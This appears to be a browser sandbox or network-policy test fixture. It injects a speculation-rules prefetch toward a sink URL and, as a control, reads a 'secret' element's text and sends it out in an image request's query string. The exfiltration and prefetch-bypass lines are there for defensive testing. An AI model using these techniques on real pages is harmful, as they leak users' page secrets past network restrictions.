//! guest = "app"
//! promise = "app-network"
//! policy = { resources = { inlineScripts = true } }
(async () => { const rules = document.createElement("script"); rules.type = "speculationrules"; rules.textContent = JSON.stringify({ prefetch: [{ urls: [SINK + "/x"] }] }); document.head.append(rules); })().catch(() => {});
setTimeout(end, 250);
// --- control
const picture = new Image();
picture.src = `${stage.sink}/taken?${document.getElementById("secret").textContent}`;
await stage.until(() => picture.complete);
return "sent";
